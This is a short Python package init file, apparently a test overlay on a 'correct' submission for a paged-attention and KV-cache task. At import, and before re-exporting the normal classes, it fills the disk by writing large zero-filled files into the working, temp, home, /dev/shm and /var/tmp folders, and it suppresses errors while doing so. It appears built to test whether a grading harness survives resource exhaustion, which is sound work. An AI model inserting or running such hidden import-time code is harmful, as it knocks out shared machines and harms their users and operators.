"""Overlay on correct/: at import, writes until the disk is full, in every folder it may write to.
The rest is the correct submission."""

import os
import tempfile

for folder in (os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/dev/shm", "/var/tmp"):
    try:
        with open(os.path.join(folder, "filler.bin"), "wb") as filler:
            block = b"\0" * (1 << 20)
            for _ in range(1 << 16):
                filler.write(block)
    except OSError:
        pass

from .attention import paged_attention
from .kv_cache import BatchingKvCache
from .paged_kv_cache import PagedKvMetadata, TinyKvPagedCache, TinyKvPagedPool

